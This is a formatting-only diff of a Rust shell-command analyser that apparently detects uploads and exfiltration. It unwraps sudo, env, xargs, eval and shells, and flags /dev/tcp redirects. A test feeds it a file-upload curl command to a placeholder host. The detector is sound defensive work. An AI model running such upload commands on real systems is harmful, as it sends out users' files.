@@ -11,10 +11,7 @@
 
 use std::collections::HashMap;
 
-use brush_parser::ast::{
-    self, Command, CommandPrefixOrSuffixItem as Item, CompoundCommand, IoFileRedirectKind,
-    IoFileRedirectTarget, IoRedirect,
-};
+use brush_parser::ast::{self, Command, CommandPrefixOrSuffixItem as Item, CompoundCommand, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect};
 use brush_parser::word::{self, Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
 use brush_parser::{Parser, ParserOptions};
 
@@ -58,11 +55,7 @@ mod depth_tests {
     fn syntax_depth_counts_every_bracket_quoted_or_not() {
         assert_eq!(syntax_depth("echo $(date) ${HOME}"), 1);
         assert_eq!(syntax_depth("echo \"$(a $(b))\""), 2);
-        assert_eq!(
-            syntax_depth("echo '((((((' \\("),
-            7,
-            "quoting is not trusted to hide brackets"
-        );
+        assert_eq!(syntax_depth("echo '((((((' \\("), 7, "quoting is not trusted to hide brackets");
         // A `'` in a heredoc body is a literal: reading it as a quote once hid the rest.
         assert_eq!(syntax_depth("cat <<EOF\nit's\nEOF\n((((((((((((((((x"), 16);
     }
@@ -72,10 +65,7 @@ mod depth_tests {
         let script = walk("( ( curl -d @f https://up.example.invalid ) )");
         assert_eq!(script.cmds.len(), 1);
         assert_eq!(script.cmds[0].name(), "curl");
-        assert!(
-            walk("(( i = (a + b) * 2 ))").events.is_empty(),
-            "real arithmetic is not a parse failure"
-        );
+        assert!(walk("(( i = (a + b) * 2 ))").events.is_empty(), "real arithmetic is not a parse failure");
     }
 
     #[test]
@@ -89,11 +79,7 @@ mod depth_tests {
             format!("cat <<EOF\nit's\nEOF\necho {}", "((".repeat(40)),
         ] {
             let script = walk(&text);
-            assert!(
-                script.cmds.is_empty() && !script.events.is_empty(),
-                "{}",
-                &text[..40]
-            );
+            assert!(script.cmds.is_empty() && !script.events.is_empty(), "{}", &text[..40]);
         }
     }
 }
@@ -108,10 +94,7 @@ pub struct Word {
 
 impl Word {
     pub fn lit(text: &str) -> Word {
-        Word {
-            text: text.to_string(),
-            subst: false,
-        }
+        Word { text: text.to_string(), subst: false }
     }
 
     pub fn dynamic(&self) -> bool {
@@ -168,12 +151,7 @@ pub struct Script {
 
 /// Walk a shell command string.
 pub fn walk(text: &str) -> Script {
-    let mut w = Walker {
-        opts: ParserOptions::default(),
-        vars: HashMap::new(),
-        out: Script::default(),
-        nest: 0,
-    };
+    let mut w = Walker { opts: ParserOptions::default(), vars: HashMap::new(), out: Script::default(), nest: 0 };
     w.program(text, 0);
     w.out
 }
@@ -189,18 +167,14 @@ struct Walker {
 impl Walker {
     fn program(&mut self, text: &str, depth: usize) {
         if depth > MAX_DEPTH {
-            self.out
-                .events
-                .push(Event::unknowable("scripts nested too deeply to follow"));
+            self.out.events.push(Event::unknowable("scripts nested too deeply to follow"));
             return;
         }
         // brush-parser backtracks exponentially on unbalanced `(` (24 of them: seconds) and
         // recurses once per level: an input built to be slow or deep must not reach it, or the
         // call would run out of budget and fail open.
         if syntax_depth(text) > MAX_SYNTAX_DEPTH {
-            self.out
-                .events
-                .push(Event::unknowable("it is nested too deeply to analyse"));
+            self.out.events.push(Event::unknowable("it is nested too deeply to analyse"));
             return;
         }
         let mut parser = Parser::new(std::io::Cursor::new(text.as_bytes()), &self.opts);
@@ -210,10 +184,7 @@ impl Walker {
                     self.list(list, depth);
                 }
             }
-            Err(_) => self
-                .out
-                .events
-                .push(Event::unknowable("it does not parse as a shell command")),
+            Err(_) => self.out.events.push(Event::unknowable("it does not parse as a shell command")),
         }
     }
 
@@ -242,9 +213,7 @@ impl Walker {
         self.nest += 1;
         if self.nest > MAX_NEST {
             self.nest -= 1;
-            self.out
-                .events
-                .push(Event::unknowable("syntax nested too deeply to follow"));
+            self.out.events.push(Event::unknowable("syntax nested too deeply to follow"));
             return None;
         }
         let output = match cmd {
@@ -311,9 +280,7 @@ impl Walker {
                 // `(( … ))` arithmetic: walk the body as commands too when it parses as a program
                 // (real arithmetic either fails to parse or names no uploader).
                 let body = a.expr.value.as_bytes();
-                if let Ok(program) =
-                    Parser::new(std::io::Cursor::new(body), &self.opts).parse_program()
-                {
+                if let Ok(program) = Parser::new(std::io::Cursor::new(body), &self.opts).parse_program() {
                     for list in &program.complete_commands {
                         self.list(list, depth);
                     }
@@ -322,17 +289,10 @@ impl Walker {
         }
     }
 
-    fn simple(
-        &mut self,
-        sc: &ast::SimpleCommand,
-        piped: Option<Stdin>,
-        depth: usize,
-    ) -> Option<String> {
+    fn simple(&mut self, sc: &ast::SimpleCommand, piped: Option<Stdin>, depth: usize) -> Option<String> {
         let mut io = Io::default();
         let mut env = Vec::new();
-        let words = sc.prefix.as_ref().map_or(0, |p| p.0.len())
-            + 1
-            + sc.suffix.as_ref().map_or(0, |s| s.0.len());
+        let words = sc.prefix.as_ref().map_or(0, |p| p.0.len()) + 1 + sc.suffix.as_ref().map_or(0, |s| s.0.len());
         let mut argv = Vec::with_capacity(words);
         let items = sc.prefix.iter().flat_map(|p| p.0.iter());
         for item in items {
@@ -352,10 +312,7 @@ impl Walker {
                 Item::IoRedirect(r) => self.redirect(r, &mut io, depth),
                 Item::ProcessSubstitution(_, sub) => {
                     self.list(&sub.list, depth);
-                    argv.push(Word {
-                        text: DYN.to_string(),
-                        subst: true,
-                    });
+                    argv.push(Word { text: DYN.to_string(), subst: true });
                 }
             }
         }
@@ -366,20 +323,13 @@ impl Walker {
             return None;
         }
         let stdin = io.stdin.or(piped).unwrap_or(Stdin::Terminal);
-        let env: Vec<(String, String)> = env
-            .into_iter()
-            .map(|(k, v)| (k, v.unwrap_or_else(|| DYN.to_string())))
-            .collect();
+        let env: Vec<(String, String)> = env.into_iter().map(|(k, v)| (k, v.unwrap_or_else(|| DYN.to_string()))).collect();
         let cmd = Cmd { argv, env, stdin };
         let name = cmd.name();
-        if matches!(
-            name,
-            "export" | "declare" | "typeset" | "local" | "readonly"
-        ) {
+        if matches!(name, "export" | "declare" | "typeset" | "local" | "readonly") {
             for a in cmd.args() {
                 if let Some((k, v)) = a.text.split_once('=') {
-                    self.vars
-                        .insert(k.to_string(), (!a.dynamic()).then(|| v.to_string()));
+                    self.vars.insert(k.to_string(), (!a.dynamic()).then(|| v.to_string()));
                 }
             }
         }
@@ -403,20 +353,9 @@ impl Walker {
         let args = cmd.args();
         let known = || !args.iter().any(Word::dynamic);
         match cmd.name() {
-            "echo" if known() => Some(
-                args.iter()
-                    .filter(|a| !a.text.starts_with('-'))
-                    .map(|a| a.text.as_str())
-                    .collect::<Vec<_>>()
-                    .join(" "),
-            ),
+            "echo" if known() => Some(args.iter().filter(|a| !a.text.starts_with('-')).map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ")),
             // printf's format and arguments, one per line: enough to see commands and URLs in it.
-            "printf" if known() => Some(
-                args.iter()
-                    .map(|a| a.text.replace("\\n", "\n"))
-                    .collect::<Vec<_>>()
-                    .join("\n"),
-            ),
+            "printf" if known() => Some(args.iter().map(|a| a.text.replace("\\n", "\n")).collect::<Vec<_>>().join("\n")),
             "cat" if args.len() == 1 && known() => self.out.files.get(&args[0].text).cloned(),
             _ => None,
         }
@@ -425,9 +364,7 @@ impl Walker {
     /// Run one command: unwrap wrappers and nested scripts, or hand it to the detectors.
     fn exec(&mut self, cmd: Cmd, depth: usize) {
         if cmd.argv[0].dynamic() {
-            self.out.events.push(Event::unknowable(
-                "the command name is computed at run time",
-            ));
+            self.out.events.push(Event::unknowable("the command name is computed at run time"));
             return;
         }
         let name = cmd.name();
@@ -437,32 +374,18 @@ impl Walker {
                 for argv in inners {
                     if !argv.is_empty() {
                         let env = cmd.env.clone();
-                        self.exec(
-                            Cmd {
-                                argv,
-                                env,
-                                stdin: cmd.stdin.clone(),
-                            },
-                            depth,
-                        );
+                        self.exec(Cmd { argv, env, stdin: cmd.stdin.clone() }, depth);
                     }
                 }
             }
             Unwrapped::Script(Some(text)) => self.program(&text, depth + 1),
-            Unwrapped::Script(None) => self
-                .out
-                .events
-                .push(Event::unknowable("it runs a script built at run time")),
+            Unwrapped::Script(None) => self.out.events.push(Event::unknowable("it runs a script built at run time")),
             Unwrapped::Shell => self.shell(&cmd, depth),
             Unwrapped::No => {
                 if name == "ssh" {
                     // ProxyCommand is a local shell command.
                     for a in args {
-                        if let Some((_, v)) = a
-                            .text
-                            .split_once("roxyCommand=")
-                            .or_else(|| a.text.split_once("roxyCommand "))
-                        {
+                        if let Some((_, v)) = a.text.split_once("roxyCommand=").or_else(|| a.text.split_once("roxyCommand ")) {
                             self.program(v, depth + 1);
                         }
                     }
@@ -476,19 +399,12 @@ impl Walker {
     fn shell(&mut self, cmd: &Cmd, depth: usize) {
         let args = cmd.args();
         let mut i = 0;
-        while i < args.len()
-            && args[i].text.starts_with(['-', '+'])
-            && args[i].text != "--"
-            && args[i].text != "-"
-        {
+        while i < args.len() && args[i].text.starts_with(['-', '+']) && args[i].text != "--" && args[i].text != "-" {
             let opt = &args[i].text;
             if !opt.starts_with("--") && opt.contains('c') {
                 return match args.get(i + 1) {
                     Some(script) if !script.dynamic() => self.program(&script.text, depth + 1),
-                    Some(_) => self
-                        .out
-                        .events
-                        .push(Event::unknowable("a shell runs a script built at run time")),
+                    Some(_) => self.out.events.push(Event::unknowable("a shell runs a script built at run time")),
                     None => {}
                 };
             }
@@ -508,10 +424,7 @@ impl Walker {
             }
             _ => match &cmd.stdin {
                 Stdin::Text(t) => self.program(&t.clone(), depth + 1),
-                Stdin::Pipe => self
-                    .out
-                    .events
-                    .push(Event::unknowable("a shell runs commands read from a pipe")),
+                Stdin::Pipe => self.out.events.push(Event::unknowable("a shell runs commands read from a pipe")),
                 Stdin::File(f) => {
                     if let Some(text) = self.out.files.get(f).cloned() {
                         self.program(&text, depth + 1);
@@ -524,9 +437,7 @@ impl Walker {
 
     fn assignment(&mut self, a: &ast::Assignment, depth: usize) -> (String, Option<String>) {
         let name = match &a.name {
-            ast::AssignmentName::VariableName(n) | ast::AssignmentName::ArrayElementName(n, _) => {
-                n.clone()
-            }
+            ast::AssignmentName::VariableName(n) | ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
         };
         let value = match &a.value {
             ast::AssignmentValue::Scalar(w) => {
@@ -552,26 +463,13 @@ impl Walker {
             IoRedirect::File(fd, kind, target) => match target {
                 IoFileRedirectTarget::Filename(w) => {
                     let path = self.word(&w.value, depth).text;
-                    if let Some(rest) = path
-                        .strip_prefix("/dev/tcp/")
-                        .or_else(|| path.strip_prefix("/dev/udp/"))
-                    {
+                    if let Some(rest) = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/")) {
                         let host = rest.split('/').next().unwrap_or(rest);
-                        self.out
-                            .events
-                            .push(Event::upload("/dev/tcp", dest::host_name(host)));
+                        self.out.events.push(Event::upload("/dev/tcp", dest::host_name(host)));
                     }
                     match kind {
-                        IoFileRedirectKind::Read if fd.is_none_or(|f| f == 0) => {
-                            io.stdin = Some(Stdin::File(path))
-                        }
-                        IoFileRedirectKind::Write
-                        | IoFileRedirectKind::Append
-                        | IoFileRedirectKind::Clobber
-                            if fd.is_none_or(|f| f == 1) =>
-                        {
-                            io.written = Some(path)
-                        }
+                        IoFileRedirectKind::Read if fd.is_none_or(|f| f == 0) => io.stdin = Some(Stdin::File(path)),
+                        IoFileRedirectKind::Write | IoFileRedirectKind::Append | IoFileRedirectKind::Clobber if fd.is_none_or(|f| f == 1) => io.written = Some(path),
                         _ => {}
                     }
                 }
@@ -598,19 +496,14 @@ impl Walker {
                 };
                 io.stdin = Some(Stdin::Text(text));
             }
-            IoRedirect::HereString(_, w) => {
-                io.stdin = Some(Stdin::Text(self.word(&w.value, depth).text))
-            }
+            IoRedirect::HereString(_, w) => io.stdin = Some(Stdin::Text(self.word(&w.value, depth).text)),
             IoRedirect::OutputAndError(w, _) => io.written = Some(self.word(&w.value, depth).text),
         }
     }
 
     /// Quote removal and expansion of one word; substitutions inside are walked as commands.
     fn word(&mut self, raw: &str, depth: usize) -> Word {
-        if !raw
-            .bytes()
-            .any(|b| matches!(b, b'$' | b'`' | b'\'' | b'"' | b'\\' | b'~'))
-        {
+        if !raw.bytes().any(|b| matches!(b, b'$' | b'`' | b'\'' | b'"' | b'\\' | b'~')) {
             return Word::lit(raw);
         }
         match word::parse(raw, &self.opts) {
@@ -619,10 +512,7 @@ impl Walker {
                 self.pieces(&pieces, &mut w, depth);
                 w
             }
-            Err(_) => Word {
-                text: DYN.to_string(),
-                subst: false,
-            },
+            Err(_) => Word { text: DYN.to_string(), subst: false },
         }
     }
 
@@ -631,8 +521,7 @@ impl Walker {
             match &p.piece {
                 WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => w.text.push_str(s),
                 WordPiece::AnsiCQuotedText(s) => w.text.push_str(&ansi_c(s)),
-                WordPiece::DoubleQuotedSequence(inner)
-                | WordPiece::GettextDoubleQuotedSequence(inner) => self.pieces(inner, w, depth),
+                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => self.pieces(inner, w, depth),
                 WordPiece::TildeExpansion(_) => w.text.push('~'),
                 WordPiece::ParameterExpansion(expr) => {
                     let value = self.parameter(expr, depth);
@@ -656,22 +545,9 @@ impl Walker {
         };
         match expr {
             ParameterExpr::Parameter { parameter, .. } => known(&self.vars, parameter),
-            ParameterExpr::UseDefaultValues {
-                parameter,
-                default_value,
-                ..
+            ParameterExpr::UseDefaultValues { parameter, default_value, .. } | ParameterExpr::AssignDefaultValues { parameter, default_value, .. } => {
+                known(&self.vars, parameter).or_else(|| default_value.as_ref().map(|d| self.word(d, depth)).filter(|w| !w.dynamic()).map(|w| w.text))
             }
-            | ParameterExpr::AssignDefaultValues {
-                parameter,
-                default_value,
-                ..
-            } => known(&self.vars, parameter).or_else(|| {
-                default_value
-                    .as_ref()
-                    .map(|d| self.word(d, depth))
-                    .filter(|w| !w.dynamic())
-                    .map(|w| w.text)
-            }),
             _ => None,
         }
         .unwrap_or_else(|| DYN.to_string())
@@ -750,11 +626,7 @@ fn skip_options(args: &[Word], short_val: &str, long_val: &[&str]) -> usize {
             break;
         }
         if let Some(long) = t.strip_prefix("--") {
-            i += if !long.contains('=') && long_val.contains(&long) {
-                2
-            } else {
-                1
-            };
+            i += if !long.contains('=') && long_val.contains(&long) { 2 } else { 1 };
             continue;
         }
         let cluster = &t[1..];
@@ -772,43 +644,20 @@ fn rest(args: &[Word], from: usize) -> Unwrapped {
 }
 
 fn joined(args: &[Word]) -> Option<String> {
-    (!args.iter().any(Word::dynamic)).then(|| {
-        args.iter()
-            .map(|a| a.text.as_str())
-            .collect::<Vec<_>>()
-            .join(" ")
-    })
+    (!args.iter().any(Word::dynamic)).then(|| args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" "))
 }
 
 fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
     match name {
         "sudo" | "doas" => {
-            let mut i = skip_options(
-                args,
-                "ugpCDhrtUT",
-                &[
-                    "user",
-                    "group",
-                    "prompt",
-                    "chdir",
-                    "host",
-                    "role",
-                    "type",
-                    "other-user",
-                    "close-from",
-                    "command-timeout",
-                ],
-            );
+            let mut i = skip_options(args, "ugpCDhrtUT", &["user", "group", "prompt", "chdir", "host", "role", "type", "other-user", "close-from", "command-timeout"]);
             while args.get(i).is_some_and(|a| is_assignment(&a.text)) {
                 i += 1;
             }
             rest(args, i)
         }
         "env" => {
-            if let Some(i) = args
-                .iter()
-                .position(|a| a.text == "-S" || a.text.starts_with("--split-string"))
-            {
+            if let Some(i) = args.iter().position(|a| a.text == "-S" || a.text.starts_with("--split-string")) {
                 return Unwrapped::Script(joined(&args[i + 1..]));
             }
             let mut i = skip_options(args, "uC", &["unset", "chdir"]);
@@ -817,23 +666,12 @@ fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
             }
             rest(args, i)
         }
-        "timeout" => rest(
-            args,
-            skip_options(args, "sk", &["signal", "kill-after"]) + 1,
-        ),
+        "timeout" => rest(args, skip_options(args, "sk", &["signal", "kill-after"]) + 1),
         "nice" => rest(args, skip_options(args, "n", &["adjustment"])),
-        "ionice" => rest(
-            args,
-            skip_options(args, "cnp", &["class", "classdata", "pid"]),
-        ),
-        "stdbuf" => rest(
-            args,
-            skip_options(args, "ioe", &["input", "output", "error"]),
-        ),
+        "ionice" => rest(args, skip_options(args, "cnp", &["class", "classdata", "pid"])),
+        "stdbuf" => rest(args, skip_options(args, "ioe", &["input", "output", "error"])),
         "time" => rest(args, skip_options(args, "fo", &["format", "output"])),
-        "nohup" | "setsid" | "unbuffer" | "chronic" | "torsocks" | "builtin" | "busybox" => {
-            rest(args, skip_options(args, "", &[]))
-        }
+        "nohup" | "setsid" | "unbuffer" | "chronic" | "torsocks" | "builtin" | "busybox" => rest(args, skip_options(args, "", &[])),
         "proxychains" | "proxychains4" => rest(args, skip_options(args, "f", &[])),
         "exec" => rest(args, skip_options(args, "a", &[])),
         "command" if args.iter().any(|a| a.text == "-v" || a.text == "-V") => Unwrapped::No,
@@ -851,38 +689,17 @@ fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
                     i += 2;
                     continue;
                 }
-                if let Some(r) = t
-                    .strip_prefix("-I")
-                    .or_else(|| t.strip_prefix("--replace="))
-                {
+                if let Some(r) = t.strip_prefix("-I").or_else(|| t.strip_prefix("--replace=")) {
                     replace = Some(r.to_string());
                 } else if t == "-i" || t == "--replace" {
                     replace = Some("{}".into());
                 }
-                i += skip_options(
-                    &args[i..],
-                    "LnPsdEa",
-                    &[
-                        "arg-file",
-                        "delimiter",
-                        "max-args",
-                        "max-procs",
-                        "max-lines",
-                        "eof",
-                        "max-chars",
-                    ],
-                )
-                .max(1);
+                i += skip_options(&args[i..], "LnPsdEa", &["arg-file", "delimiter", "max-args", "max-procs", "max-lines", "eof", "max-chars"]).max(1);
             }
             let mut inner = args.get(i..).unwrap_or_default().to_vec();
             match replace {
-                Some(r) if !r.is_empty() => inner
-                    .iter_mut()
-                    .for_each(|w| w.text = w.text.replace(&r, &DYN.to_string())),
-                _ => inner.push(Word {
-                    text: DYN.to_string(),
-                    subst: false,
-                }),
+                Some(r) if !r.is_empty() => inner.iter_mut().for_each(|w| w.text = w.text.replace(&r, &DYN.to_string())),
+                _ => inner.push(Word { text: DYN.to_string(), subst: false }),
             }
             Unwrapped::Inner(vec![inner])
         }
@@ -890,49 +707,29 @@ fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
             let mut inners = Vec::new();
             let mut i = 0;
             while i < args.len() {
-                if matches!(
-                    args[i].text.as_str(),
-                    "-exec" | "-execdir" | "-ok" | "-okdir"
-                ) {
+                if matches!(args[i].text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                     let start = i + 1;
-                    let end = (start..args.len())
-                        .find(|&j| args[j].text == ";" || args[j].text == "+")
-                        .unwrap_or(args.len());
+                    let end = (start..args.len()).find(|&j| args[j].text == ";" || args[j].text == "+").unwrap_or(args.len());
                     let mut inner = args[start..end].to_vec();
-                    inner
-                        .iter_mut()
-                        .for_each(|w| w.text = w.text.replace("{}", &DYN.to_string()));
+                    inner.iter_mut().for_each(|w| w.text = w.text.replace("{}", &DYN.to_string()));
                     inners.push(inner);
                     i = end;
                 }
                 i += 1;
             }
-            if inners.is_empty() {
-                Unwrapped::No
-            } else {
-                Unwrapped::Inner(inners)
-            }
+            if inners.is_empty() { Unwrapped::No } else { Unwrapped::Inner(inners) }
         }
         "watch" => {
             let i = skip_options(args, "nq", &["interval", "equexit"]);
-            if args[..i]
-                .iter()
-                .any(|a| a.text == "-x" || a.text == "--exec")
-            {
+            if args[..i].iter().any(|a| a.text == "-x" || a.text == "--exec") {
                 rest(args, i)
             } else {
                 Unwrapped::Script(joined(&args[i..]))
             }
         }
         "eval" => Unwrapped::Script(joined(args)),
-        "su" => match args
-            .iter()
-            .position(|a| a.text == "-c" || a.text == "--command")
-        {
-            Some(i) => Unwrapped::Script(
-                args.get(i + 1)
-                    .and_then(|a| (!a.dynamic()).then(|| a.text.clone())),
-            ),
+        "su" => match args.iter().position(|a| a.text == "-c" || a.text == "--command") {
+            Some(i) => Unwrapped::Script(args.get(i + 1).and_then(|a| (!a.dynamic()).then(|| a.text.clone()))),
             None => Unwrapped::No,
         },
         "bash" | "sh" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "fish" => Unwrapped::Shell,
@@ -941,9 +738,7 @@ fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
 }
 
 fn is_assignment(t: &str) -> bool {
-    t.split_once('=').is_some_and(|(k, _)| {
-        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
-    })
+    t.split_once('=').is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
 }
 
 #[cfg(test)]
